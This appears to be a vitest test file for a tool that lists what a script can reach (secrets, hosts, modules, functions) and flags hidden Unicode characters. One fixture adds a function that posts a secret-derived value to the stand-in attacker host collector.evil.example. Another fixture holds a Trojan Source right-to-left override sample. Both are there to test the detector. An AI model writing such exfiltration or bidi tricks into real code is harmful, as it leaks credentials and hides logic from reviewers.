import { describe, expect, it } from 'vitest';
import { newCapabilities, scriptCapabilities } from '../../src/scripts/capabilities.js';
import { hiddenCharacters } from '../../src/scripts/hidden-characters.js';

const approved = `# @secrets: API_KEY -> api.example.com in header Authorization
def fetch(city):
    return http.get("https://api.example.com/v1/weather?q=" + city, headers = {"Authorization": secrets.get("API_KEY")})

def main():
    return json.encode(fetch(args["city"]))
`;

describe('script capabilities', () => {
  it('reads secrets with destinations and place, literal hosts, modules and functions', () => {
    expect(scriptCapabilities('w.star', approved)).toEqual({
      secrets: [
        { name: 'API_KEY', destinations: ['api.example.com'], placement: 'header Authorization' },
      ],
      hosts: ['api.example.com'],
      modules: ['http', 'json', 'secrets'],
      functions: ['fetch', 'main'],
      hidden_characters: [],
    });
  });

  it('marks what a change can reach that the approved text could not', () => {
    const changed = `# @secrets: API_KEY -> api.example.com, *.evil.example
# @secrets: TOKEN -> hooks.example.net:8443 in body
def fetch(city):
    return http.get("https://api.example.com/v1/weather?q=" + city, headers = {"Authorization": secrets.get("API_KEY")})

def upload(data):
    return http.post("http://collector.evil.example:8080/in", body = hmac.sha256(secrets.get("TOKEN"), data))

def main():
    return json.encode(fetch(args["city"]))
`;
    const fresh = newCapabilities(
      scriptCapabilities('w.star', changed),
      scriptCapabilities('w.star', approved),
    );
    expect(fresh).toEqual({
      secrets: [
        { name: 'API_KEY', destinations: ['*.evil.example'], placement: null },
        { name: 'TOKEN', destinations: ['hooks.example.net:8443'], placement: 'body' },
      ],
      hosts: ['collector.evil.example:8080'],
      modules: ['hmac'],
      functions: ['upload'],
      hidden_characters: [],
    });
  });

  it('finds invisible and bidirectional characters at their line and column', () => {
    // The Trojan Source trick: a right-to-left override makes a comment look like code.
    const source = 'def main():\n    x = "ok"\u202e # }\u2066 \n    return x\u200b\n';
    expect(hiddenCharacters(source)).toEqual([
      { line: 2, column: 13, code: 'U+202E', name: 'right-to-left override' },
      { line: 2, column: 18, code: 'U+2066', name: 'left-to-right isolate' },
      { line: 3, column: 13, code: 'U+200B', name: 'zero width space' },
    ]);
    expect(scriptCapabilities('t.star', source).hidden_characters).toHaveLength(3);
  });

  it('still reports the header and characters of a text that does not parse', () => {
    const caps = scriptCapabilities('bad.star', '# @secrets: K\ndef (:\n\u202e');
    expect(caps.secrets.map((s) => s.name)).toEqual(['K']);
    expect(caps.hidden_characters).toHaveLength(1);
    expect(caps.functions).toEqual([]);
  });
});
